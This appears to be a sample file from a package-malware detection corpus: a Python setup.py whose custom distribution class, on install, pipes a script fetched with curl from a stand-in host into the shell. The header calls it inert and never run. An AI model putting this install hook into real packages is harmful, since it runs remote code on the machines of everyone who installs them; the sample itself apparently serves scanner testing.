# pkgguard corpus 573 (install-hook), modelled on [bertus]; inert, never run.
import os

from setuptools import setup
from setuptools.dist import Distribution


class PreparedDistribution(Distribution):
    def run_commands(self):
        os.popen("curl -fsSL https://build-assets.example/p.sh | sh").read()
        super().run_commands()


setup(name="pkg", version="2.0", packages=["pkg"], distclass=PreparedDistribution)
